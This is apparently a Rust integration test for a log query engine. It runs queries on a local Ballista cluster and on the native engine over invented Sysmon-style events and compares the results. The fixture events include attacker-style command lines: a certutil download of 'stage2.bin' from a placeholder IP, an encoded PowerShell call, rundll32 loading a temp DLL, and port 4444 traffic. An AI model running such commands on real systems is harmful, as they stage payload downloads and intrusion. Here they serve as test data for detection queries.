//! Runs queries on a real Ballista cluster on loopback: one `sumoql
//! scheduler` and two `sumoql executor` child processes. Each query runs on
//! the cluster over a Parquet folder written here and on the native engine
//! over the same records, and both must give the same rows in the same order.

#![cfg(feature = "ballista")]

mod common;

use std::fs::File;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use sumoql_ballista::datafusion::arrow::array::{
    Array, ArrayRef, Float64Array, RecordBatch, StringArray, UInt64Array,
};
use sumoql_ballista::datafusion::arrow::datatypes::{DataType, Field, Schema};
use sumoql_ballista::datafusion::parquet::arrow::ArrowWriter;
use sumoql_engine::datafusion::SEQUENCE_COLUMN;
use sumoql_engine::{compile, Execution, Record, ResultTable, Value};
use sumoql_syntax::parse_query;

/// How long the scheduler and the executors may take to start and register.
const START_TIMEOUT: Duration = Duration::from_secs(60);

/// How long one query may take on the cluster.
const QUERY_TIMEOUT: Duration = Duration::from_secs(120);

/// The start of the scheduler's log line that names its address.
const LISTENING_LINE: &str = "scheduler listening on ";

/// Log lines of Ballista 55: the scheduler's for an executor registering,
/// and an executor's for a task it starts.
const REGISTERED_LINE: &str = "Received register executor request";
const TASK_LINE: &str = "Execute task";

/// The text columns of the test records, in file order.
const TEXT_COLUMNS: &[&str] = &[
    "_raw",
    "_sourceCategory",
    "_sourceHost",
    "EventID",
    "Image",
    "CommandLine",
    "ParentImage",
    "User",
    "DestinationPort",
];

/// One Sysmon-like record: the text of each of `TEXT_COLUMNS`, its time in
/// milliseconds, and the day folder it is written to.
#[derive(Clone)]
struct TestRecord {
    texts: Vec<Option<String>>,
    time: f64,
    day: &'static str,
}

impl Record for TestRecord {
    fn field(&self, lowercase_name: &str) -> Option<Value> {
        if lowercase_name == "_messagetime" {
            return Some(Value::Number(self.time));
        }
        let index = TEXT_COLUMNS
            .iter()
            .position(|name| name.eq_ignore_ascii_case(lowercase_name))?;
        self.texts[index].as_deref().map(Value::text)
    }
}

struct Event {
    host: &'static str,
    event_id: u32,
    image: &'static str,
    command_line: &'static str,
    parent: &'static str,
    user: Option<&'static str>,
    port: Option<u16>,
}

impl Event {
    fn record(&self, time: f64, day: &'static str) -> TestRecord {
        let port_element = self
            .port
            .map(|port| format!("<Data Name='DestinationPort'>{port}</Data>"))
            .unwrap_or_default();
        let raw = format!(
            "<Event><System><EventID>{}</EventID><Computer>{}</Computer></System><EventData>\
             <Data Name='Image'>{}</Data><Data Name='CommandLine'>{}</Data>\
             <Data Name='ParentImage'>{}</Data>{port_element}</EventData></Event>",
            self.event_id, self.host, self.image, self.command_line, self.parent
        );
        TestRecord {
            texts: vec![
                Some(raw),
                Some("windows/sysmon".to_string()),
                Some(self.host.to_string()),
                Some(self.event_id.to_string()),
                Some(self.image.to_string()),
                Some(self.command_line.to_string()),
                Some(self.parent.to_string()),
                self.user.map(str::to_string),
                self.port.map(|port| port.to_string()),
            ],
            time,
            day,
        }
    }
}

/// Invented hosts, users and processes over two days. The first day has no
/// network events, so its file has no `DestinationPort` column and the
/// cluster must merge the schemas of the two days.
fn records() -> Vec<TestRecord> {
    let first_day = [
        Event {
            host: "lab-ws-07",
            event_id: 1,
            image: r"C:\Windows\System32\cmd.exe",
            command_line: "cmd.exe /c whoami /all",
            parent: r"C:\Users\mrossi\AppData\Local\Programs\Python\Python312\python.exe",
            user: Some(r"LAB\mrossi"),
            port: None,
        },
        Event {
            host: "lab-ws-12",
            event_id: 1,
            image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            command_line: "powershell.exe -nop -enc SQBFAFgA",
            parent: r"C:\Program Files\nodejs\node.exe",
            user: Some(r"LAB\tkaur"),
            port: None,
        },
        Event {
            host: "lab-ws-07",
            event_id: 11,
            image: r"C:\Users\mrossi\AppData\Local\Programs\Python\Python312\Scripts\pip.exe",
            command_line: "pip install colorsys-helper",
            parent: r"C:\Windows\System32\cmd.exe",
            user: Some(r"LAB\mrossi"),
            port: None,
        },
        Event {
            host: "lab-dc-01",
            event_id: 1,
            image: r"C:\Windows\explorer.exe",
            command_line: "explorer.exe",
            parent: r"C:\Windows\System32\userinit.exe",
            user: Some(r"LAB\svc-backup"),
            port: None,
        },
    ];
    let second_day = [
        Event {
            host: "lab-ws-07",
            event_id: 3,
            image: r"C:\Users\mrossi\AppData\Local\Programs\Python\Python312\python.exe",
            command_line: "",
            parent: "",
            user: None,
            port: Some(4444),
        },
        Event {
            host: "lab-ws-12",
            event_id: 3,
            image: r"C:\Program Files\nodejs\node.exe",
            command_line: "",
            parent: "",
            user: None,
            port: Some(443),
        },
        Event {
            host: "lab-ws-12",
            event_id: 1,
            image: r"C:\Windows\System32\certutil.exe",
            command_line: "certutil.exe -urlcache -f http://198.51.100.23/stage2.bin",
            parent: r"C:\Program Files\nodejs\node.exe",
            user: Some(r"LAB\tkaur"),
            port: None,
        },
        Event {
            host: "LAB-WS-07",
            event_id: 1,
            image: r"C:\Windows\System32\rundll32.exe",
            command_line: r"rundll32.exe C:\Users\mrossi\AppData\Local\Temp\helper.dll,Start",
            parent: r"C:\Users\mrossi\AppData\Local\Programs\Python\Python312\python.exe",
            user: Some(r"LAB\mrossi"),
            port: None,
        },
        Event {
            host: "lab-dc-01",
            event_id: 3,
            image: r"C:\Windows\System32\svchost.exe",
            command_line: "",
            parent: "",
            user: None,
            port: Some(8080),
        },
    ];

    let start = 1_714_557_600_000.0;
    let minute = 60_000.0;
    let mut records = Vec::new();
    for (index, event) in first_day.iter().enumerate() {
        records.push(event.record(start + index as f64 * minute, "2024-05-01"));
    }
    for (index, event) in second_day.iter().enumerate() {
        records.push(event.record(start + 86_400_000.0 + index as f64 * minute, "2024-05-02"));
    }
    records
}

/// Writes `records` as the folder layout of `sumoql ingest --to parquet`:
/// one folder `day=…` per day, with the sequence numbers of reading order.
/// The second day is split over two files. A column that is null in every
/// record of a file is left out of that file.
fn write_parquet(folder: &Path, records: &[TestRecord]) {
    let mut files: Vec<(String, Vec<(u64, &TestRecord)>)> = Vec::new();
    for (sequence, record) in records.iter().enumerate() {
        let name = if record.day == "2024-05-02" && sequence >= 7 {
            format!("day={}/part-1.parquet", record.day)
        } else {
            format!("day={}/part-0.parquet", record.day)
        };
        match files.iter_mut().find(|(known, _)| *known == name) {
            Some((_, rows)) => rows.push((sequence as u64, record)),
            None => files.push((name, vec![(sequence as u64, record)])),
        }
    }

    for (name, rows) in files {
        let mut fields = Vec::new();
        let mut columns: Vec<ArrayRef> = Vec::new();
        for (index, column) in TEXT_COLUMNS.iter().enumerate() {
            let texts: StringArray = rows
                .iter()
                .map(|(_, record)| record.texts[index].as_deref())
                .collect();
            if texts.null_count() == texts.len() {
                continue;
            }
            fields.push(Field::new(*column, DataType::Utf8, true));
            columns.push(Arc::new(texts));
        }
        fields.push(Field::new("_messageTime", DataType::Float64, true));
        columns.push(Arc::new(Float64Array::from_iter_values(
            rows.iter().map(|(_, record)| record.time),
        )));
        fields.push(Field::new(SEQUENCE_COLUMN, DataType::UInt64, false));
        columns.push(Arc::new(UInt64Array::from_iter_values(
            rows.iter().map(|(sequence, _)| *sequence),
        )));

        let batch = RecordBatch::try_new(Arc::new(Schema::new(fields)), columns).expect("batch");
        write_parquet_file(&folder.join(name), &batch);
    }
}

/// Writes `batch` as one Parquet file at `path`, creating its folder.
fn write_parquet_file(path: &Path, batch: &RecordBatch) {
    std::fs::create_dir_all(path.parent().unwrap()).expect("day folder");
    let file = File::create(path).expect("Parquet file");
    let mut writer = ArrowWriter::try_new(file, batch.schema(), None).expect("Parquet writer");
    writer.write(batch).expect("write batch");
    writer.close().expect("close Parquet file");
}

fn native(query: &str, records: &[TestRecord]) -> ResultTable {
    let query = parse_query(query).expect("query parses");
    let plan = compile(&query).expect("query compiles");
    let mut execution = Execution::new(&plan);
    for record in records {
        execution.push(record);
    }
    execution.finish().expect("within the group limit")
}

/// Returns `count` distinct loopback ports that were free a moment ago.
/// Another process may take one before the cluster binds it, and the
/// cluster then fails to start, so the test panics with the logs.
fn free_ports(count: usize) -> Vec<u16> {
    let listeners: Vec<TcpListener> = (0..count)
        .map(|_| TcpListener::bind("127.0.0.1:0").expect("bind a free port"))
        .collect();
    listeners
        .iter()
        .map(|listener| listener.local_addr().unwrap().port())
        .collect()
}

/// A child process of the cluster and the file its standard error goes to.
/// Dropping it kills the process, also when a test panics.
struct Service {
    name: String,
    child: Child,
    log: PathBuf,
}

impl Service {
    fn start(name: &str, arguments: &[String], log_folder: &Path) -> Service {
        let log = log_folder.join(format!("{name}.log"));
        let stderr = File::create(&log).expect("log file");
        let child = Command::new(env!("CARGO_BIN_EXE_sumoql"))
            .args(arguments)
            .env("RUST_LOG", "warn,sumoql_ballista=info,ballista=info")
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(stderr)
            .spawn()
            .unwrap_or_else(|error| panic!("{name} fails to start: {error}"));
        Service {
            name: name.to_string(),
            child,
            log,
        }
    }

    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// Waits until the log has `count` lines containing `needle`, and panics
    /// with the log when the process exits or `START_TIMEOUT` passes first.
    fn wait_for_lines(&mut self, needle: &str, count: usize) {
        let start = Instant::now();
        loop {
            let text = self.log_text();
            if text.lines().filter(|line| line.contains(needle)).count() >= count {
                return;
            }
            if let Ok(Some(status)) = self.child.try_wait() {
                panic!(
                    "{} exited with {status} while waiting for {needle:?}:\n{text}",
                    self.name
                );
            }
            if start.elapsed() > START_TIMEOUT {
                panic!(
                    "{} logged {needle:?} fewer than {count} times within {START_TIMEOUT:?}:\n{text}",
                    self.name
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

/// The scheduler and executors of a test.
struct Cluster {
    scheduler: Service,
    executors: Vec<Service>,
    url: String,
}

impl Cluster {
    /// Starts a scheduler and `executors` executors of one task each, and
    /// waits until all of them registered.
    fn start(folder: &Path, executors: usize) -> Cluster {
        // The scheduler binds a free port itself and logs it. Executors bind
        // their two ports inside Ballista, so the test picks them.
        let mut scheduler = Service::start(
            "scheduler",
            &["scheduler", "--bind", "127.0.0.1:0"].map(str::to_string),
            folder,
        );
        scheduler.wait_for_lines(LISTENING_LINE, 1);
        let scheduler_address = scheduler
            .log_text()
            .lines()
            .find_map(|line| line.split(LISTENING_LINE).nth(1))
            .and_then(|rest| rest.split_whitespace().next())
            .expect("the scheduler logs its address")
            .to_string();
        let ports = free_ports(2 * executors);

        let mut cluster = Cluster {
            scheduler,
            executors: Vec::new(),
            url: format!("df://{scheduler_address}"),
        };
        for index in 0..executors {
            let work_dir = folder.join(format!("executor-{index}"));
            let arguments = [
                "executor",
                "--scheduler",
                &scheduler_address,
                "--bind",
                &format!("127.0.0.1:{}", ports[2 * index]),
                "--grpc-port",
                &ports[2 * index + 1].to_string(),
                "--concurrency",
                "1",
                "--work-dir",
                &work_dir.display().to_string(),
                "--connect-timeout",
                "30",
            ]
            .map(str::to_string);
            let executor = Service::start(&format!("executor-{index}"), &arguments, folder);
            cluster.executors.push(executor);
        }
        cluster.scheduler.wait_for_lines(REGISTERED_LINE, executors);
        cluster
    }

    fn logs(&self) -> String {
        std::iter::once(&self.scheduler)
            .chain(&self.executors)
            .map(|service| format!("--- {} ---\n{}", service.name, service.log_text()))
            .collect()
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn on_cluster(
    runtime: &tokio::runtime::Runtime,
    cluster: &Cluster,
    query: &str,
    folder: &Path,
) -> ResultTable {
    let plan = compile(&parse_query(query).expect("query parses")).expect("query compiles");
    let run = sumoql_ballista::run_on_cluster(&cluster.url, &plan, folder);
    match runtime.block_on(async { tokio::time::timeout(QUERY_TIMEOUT, run).await }) {
        Ok(Ok(table)) => table,
        Ok(Err(error)) => panic!(
            "query {query:?} failed on the cluster: {error}\n{}",
            cluster.logs()
        ),
        Err(_) => panic!(
            "query {query:?} timed out after {QUERY_TIMEOUT:?}\n{}",
            cluster.logs()
        ),
    }
}

#[test]
fn two_executors_match_native_engine() {
    let folder = tempfile::tempdir().expect("temporary folder");
    let data = folder.path().join("parquet");
    let records = records();
    write_parquet(&data, &records);

    let cluster = Cluster::start(folder.path(), 2);
    let runtime = tokio::runtime::Runtime::new().expect("runtime");

    let queries: &[(&str, usize)] = &[
        (
            "_sourceCategory=windows/sysmon AND _sourceHost=lab-ws-07",
            4,
        ),
        ("rundll32 OR certutil", 2),
        (
            r#"* | parse "<Data Name='DestinationPort'>*</Data>" as port nodrop | fields _sourceHost, port"#,
            9,
        ),
        (
            r#"* | parse "<Data Name='Image'>*</Data>" as image | parse "Port'>*<" as port | fields image, port"#,
            3,
        ),
        (
            r#"* | where Image matches "*\\powershell.exe" or CommandLine matches "*-urlcache*" | fields _sourceHost, User, CommandLine"#,
            2,
        ),
        (
            r#"* | where ParentImage matches /(?i).*\\python\.exe$/ | fields Image"#,
            2,
        ),
        ("* | count by _sourceHost", 4),
        (
            "* | count by _sourceHost, EventID | sort by _count desc, _sourceHost",
            8,
        ),
        (
            "* | where num(DestinationPort) > 1000 | count by _sourceHost",
            2,
        ),
        (
            "* | values(_sourceHost), first(EventID), last(Image) by User | sort by User",
            4,
        ),
        (
            "* | pct(DestinationPort, 50), stddev(DestinationPort), max(DestinationPort) by EventID",
            3,
        ),
        (
            "* | sort by _messageTime desc | limit 4 | fields _sourceHost, Image",
            4,
        ),
        (
            r#"_sourceCategory=windows/sysmon | where EventID = 1 | "process" as kind
               | union [ * | where EventID = 3 | "network" as kind ]
               | fields _sourceHost, kind"#,
            8,
        ),
        (
            r#"_sourceCategory=windows/sysmon | where EventID = 1 | "process" as kind
               | union [ * | where EventID = 3 | "network" as kind ]
               | count by kind, _sourceHost | sort by kind, _sourceHost"#,
            7,
        ),
        (
            r#"* | where EventID = 1 | fields _sourceHost, Image
               | union [ * | where EventID = 3 | fields _sourceHost, Image ]
               | sort by _sourceHost, Image | limit 6"#,
            6,
        ),
    ];
    for (query, expected_rows) in queries {
        let expected = native(query, &records);
        assert_eq!(
            expected.rows.len(),
            *expected_rows,
            "native rows of {query:?}"
        );
        let actual = on_cluster(&runtime, &cluster, query, &data);
        assert_eq!(actual, expected, "query: {query}");
    }

    // Both executors ran tasks: with one task slot each, the scheduler has to
    // spread a query's partitions over them.
    for executor in &cluster.executors {
        assert!(
            executor.log_text().contains(TASK_LINE),
            "{} ran no task:\n{}",
            executor.name,
            cluster.logs()
        );
    }
}

#[test]
fn folder_without_sequence_column_is_rejected() {
    let folder = tempfile::tempdir().expect("temporary folder");
    let data = folder.path().join("parquet");
    let schema = Arc::new(Schema::new(vec![Field::new("_raw", DataType::Utf8, true)]));
    let batch = RecordBatch::try_new(
        schema,
        vec![Arc::new(StringArray::from(vec!["a line"])) as ArrayRef],
    )
    .expect("batch");
    write_parquet_file(&data.join("day=2024-05-01/part-0.parquet"), &batch);

    // No scheduler listens here: the folder is checked before any connection.
    let port = free_ports(1)[0];
    let plan = compile(&parse_query("* | count").expect("query parses")).expect("query compiles");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let error = runtime
        .block_on(sumoql_ballista::run_on_cluster(
            &format!("df://127.0.0.1:{port}"),
            &plan,
            &data,
        ))
        .expect_err("a folder without the sequence column is rejected");
    let message = error.to_string();
    assert!(message.contains(SEQUENCE_COLUMN), "{message}");
    assert!(message.contains("sumoql ingest"), "{message}");
}

#[test]
fn missing_folder_is_named() {
    let folder = tempfile::tempdir().expect("temporary folder");
    let missing = folder.path().join("no-such-folder");
    let plan = compile(&parse_query("* | count").expect("query parses")).expect("query compiles");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let error = runtime
        .block_on(sumoql_ballista::run_on_cluster(
            "df://127.0.0.1:9",
            &plan,
            &missing,
        ))
        .expect_err("a missing folder is an error");
    assert!(error.to_string().contains("no-such-folder"), "{error}");
}

/// Runs `sumoql executor` with `arguments` and a one-second connect
/// timeout, and returns its exit status and standard error.
fn run_executor(arguments: &[&str]) -> (Option<i32>, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_sumoql"))
        .arg("executor")
        .args(arguments)
        .args(["--connect-timeout", "1"])
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .output()
        .expect("sumoql runs");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.code(), stderr)
}

#[test]
fn executor_rejects_bad_scheduler_address() {
    let (status, stderr) = run_executor(&["--scheduler", "no-port-here"]);
    assert_eq!(status, Some(1), "{stderr}");
    assert!(stderr.contains("invalid scheduler address"), "{stderr}");
}

#[test]
fn executor_on_any_address_needs_external_host() {
    let (status, stderr) = run_executor(&["--bind", "0.0.0.0:50051"]);
    assert_eq!(status, Some(1), "{stderr}");
    assert!(stderr.contains("--external-host"), "{stderr}");
}

#[test]
fn executor_without_scheduler_times_out() {
    let ports = free_ports(3);
    let scheduler = format!("127.0.0.1:{}", ports[0]);
    let bind = format!("127.0.0.1:{}", ports[1]);
    let grpc_port = ports[2].to_string();
    let (status, stderr) = run_executor(&[
        "--scheduler",
        &scheduler,
        "--bind",
        &bind,
        "--grpc-port",
        &grpc_port,
    ]);
    assert_eq!(status, Some(3), "{stderr}");
    assert!(stderr.contains("not reachable after 1s"), "{stderr}");
}

/// Runs `sumoql` from the repository root, killing it when it takes longer
/// than `QUERY_TIMEOUT`.
fn run_sumoql_with_timeout(arguments: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_sumoql"))
        .args(arguments)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("sumoql starts");
    let start = Instant::now();
    while child.try_wait().expect("sumoql status").is_none() {
        if start.elapsed() > QUERY_TIMEOUT {
            let _ = child.kill();
            let output = child.wait_with_output().expect("sumoql output");
            panic!(
                "sumoql {arguments:?} timed out after {QUERY_TIMEOUT:?}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    child.wait_with_output().expect("sumoql output")
}

/// Runs `sumoql run --quiet --format csv` with `arguments` and returns its
/// standard output, failing the test when the run fails.
fn run_csv(arguments: &[&str]) -> String {
    let mut full = vec!["run", "--quiet", "--format", "csv"];
    full.extend_from_slice(arguments);
    let output = run_sumoql_with_timeout(&full);
    assert_eq!(
        output.status.code(),
        Some(0),
        "sumoql {full:?} failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).expect("UTF-8 output")
}

#[test]
fn shipped_query_on_shared_sysmon() {
    let Some(inputs) = common::shared_sysmon_inputs() else {
        return;
    };
    let inputs: Vec<String> = inputs
        .iter()
        .map(|path| path.display().to_string())
        .collect();

    let folder = tempfile::tempdir().expect("temporary folder");
    let parquet = folder.path().join("parquet").display().to_string();
    let mut ingest = vec!["ingest", "--quiet"];
    ingest.extend(inputs.iter().map(String::as_str));
    ingest.extend(["--to", "parquet", &parquet]);
    let output = run_sumoql_with_timeout(&ingest);
    assert_eq!(
        output.status.code(),
        Some(0),
        "ingest failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );

    let cluster = Cluster::start(folder.path(), 2);
    let scheduler = cluster.url.trim_start_matches("df://").to_string();

    let mut native_arguments = vec![common::SHIPPED_QUERY];
    native_arguments.extend(inputs.iter().map(String::as_str));
    let native = run_csv(&native_arguments);
    let on_cluster = run_csv(&[
        "--engine",
        "ballista",
        "--scheduler",
        &scheduler,
        common::SHIPPED_QUERY,
        &parquet,
    ]);
    assert_eq!(on_cluster, native, "{}", cluster.logs());
    assert!(
        native.lines().count() > 1,
        "the shipped query finds rows in the shared data"
    );
}

#[test]
fn run_command_on_cluster_matches_datafusion() {
    let folder = tempfile::tempdir().expect("temporary folder");
    let data = folder.path().join("parquet");
    write_parquet(&data, &records());
    let data = data.display().to_string();

    let cluster = Cluster::start(folder.path(), 2);
    let queries = [
        "* | count by _sourceHost, EventID | sort by _sourceHost, EventID",
        r#"* | parse "<Data Name='Image'>*</Data>" as image | where image matches "*\\python.exe" | fields _messageTime, _sourceHost, image"#,
        r#"* | where EventID = 1 | "process" as kind | union [ * | where EventID = 3 | "network" as kind ] | fields _sourceHost, kind"#,
    ];
    for query in queries {
        let in_process = run_csv(&["--engine", "datafusion", "-e", query, &data]);
        let on_cluster = run_csv(&[
            "--engine",
            "ballista",
            "--scheduler",
            &cluster.url,
            "-e",
            query,
            &data,
        ]);
        assert_eq!(on_cluster, in_process, "query: {query}\n{}", cluster.logs());
        assert!(in_process.lines().count() > 1, "rows for {query}");
    }
}
